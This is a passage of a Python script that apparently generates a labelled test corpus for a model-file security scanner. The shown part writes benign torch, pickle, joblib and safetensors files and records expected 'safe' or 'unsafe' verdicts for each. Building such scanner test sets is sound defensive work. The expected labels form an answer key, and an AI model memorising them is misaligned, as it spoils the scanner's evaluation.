m(torch.randn(1, 4)).sum().backward(); opt.step()
torch.save({"epoch": 2, "global_step": 10, "state_dict": m.state_dict(), "optimizer_states": [opt.state_dict()],
            "hyper_parameters": {"lr": 1e-3, "layers": [4, 3, 2]}}, f"{out}/t03_lightning_like.ckpt")
torch.save({"w": torch.zeros(2, dtype=torch.bfloat16), "h": torch.ones(3, dtype=torch.float16), "i": torch.arange(3),
            "dtype": torch.float16, "size": torch.Size([2, 3])}, f"{out}/t04_dtypes.pt")
torch.save({"python": random.getstate(), "numpy": np.random.get_state(), "cpu": torch.random.get_rng_state()}, f"{out}/rng_state.pth")
torch.save(m.state_dict(), f"{out}/t06_p4.pt", pickle_protocol=4)
torch.save(m.state_dict(), f"{out}/t07_bin_name.bin")
torch.save({"p": torch.nn.Parameter(torch.ones(2))}, f"{out}/t13_parameter.pt")
torch.save({"q": torch.quantize_per_tensor(torch.ones(2), 0.1, 0, torch.qint8)}, f"{out}/t14_quantized.pt")
torch.save({"sp": torch.ones(2, 2).to_sparse()}, f"{out}/t15_sparse.pt")
with open(f"{out}/t08_numpy_arrays.pkl", "wb") as f:
    pickle.dump({"a": np.arange(4, dtype=np.float32), "s": np.float64(1.5), "i": np.int64(3)}, f, protocol=4)
import joblib
for comp in (0, "zlib", "gzip", "bz2", "xz", "lzma"):
    joblib.dump({"coef": np.ones(3), "names": ["a", "b"]}, f"{out}/t09_joblib_{comp}.joblib", compress=(comp, 3) if comp else 0)
try:
    from safetensors.torch import save_file
    save_file(m.state_dict(), f"{out}/t10_real.safetensors")
except Exception as e:
    print("no safetensors", e)
try:
    from transformers import TrainingArguments
    torch.save(TrainingArguments(output_dir="/tmp/mlsec-redteam-ta", report_to=[]), f"{out}/training_args.bin")
except Exception as e:
    print("no transformers", e)
try:
    from sklearn.linear_model import LogisticRegression
    clf = LogisticRegression().fit(np.array([[0.0], [1.0]]), np.array([0, 1]))
    joblib.dump(clf, f"{out}/t12_sklearn.joblib")
except Exception as e:
    print("no sklearn", e)
"""


def gen_torch() -> None:
    py = next((p for p in ("/tmp/rtorch/bin/python", "/tmp/torchenv/bin/python") if os.path.exists(p)), None)
    if py is None:
        print("NOTE: no torch venv (/tmp/rtorch or /tmp/torchenv): real torch/joblib benign cases skipped")
        return
    out = R.path("torch/x").parent
    r = subprocess.run([py, "-c", TORCH_SCRIPT, str(out)], capture_output=True, text=True, timeout=600, check=False)
    if r.returncode != 0:
        print("NOTE: torch generation failed:", r.stderr[-500:])
        return
    if r.stdout.strip():
        print(r.stdout.strip())
    descs = {
        "t01_state_dict.pt": "torch.save(state_dict) zip format",
        "t02_legacy.pt": "torch.save legacy (non-zip) format",
        "t03_lightning_like.ckpt": "Lightning-like ckpt with Adam optimizer state",
        "t04_dtypes.pt": "bf16/fp16/int tensors + torch.float16 dtype + torch.Size",
        "rng_state.pth": "HF Trainer rng_state.pth (python/numpy/torch RNG states)",
        "t06_p4.pt": "torch.save pickle_protocol=4",
        "t07_bin_name.bin": "torch.save under a .bin name",
        "t08_numpy_arrays.pkl": "pickle of numpy arrays/scalars (numpy 2)",
        "t10_real.safetensors": "safetensors written by the safetensors library",
        "training_args.bin": "HF TrainingArguments (issue: allow-listed framework class)",
    }
    for f in sorted(out.iterdir()):
        rel = f"torch/{f.name}"
        if f.name == "t12_sklearn.joblib":
            R.add(
                "t12-sklearn-joblib-policy",
                rel,
                "unsafe",
                "real sklearn LogisticRegression joblib (sklearn.* allow-list pattern: policy question)",
                "policy",
            )
        elif f.name.startswith("t09_joblib_"):
            R.add(f"t09-{f.stem[4:]}", rel, "safe", f"joblib.dump of numpy arrays, {f.stem[11:]} compression", "joblib")
        else:
            R.add(f"t-{f.stem}", rel, "safe", descs.get(f.name, f.name), "torch")


def main() -> None:
    gen_callables()
    gen_vm()
    gen_containers()
    gen_safe()
    gen_extra()
    gen_bounds()
    gen_torch()
    R.save()
    n_u = sum(c.expected == "unsafe" for c in R.cases)
    print(f"scan corpus: {len(R.cases)} cases ({n_u} unsafe, {len(R.cases) - n_u} safe) in {R.base}")


if __name__ == "__main__":
    main()
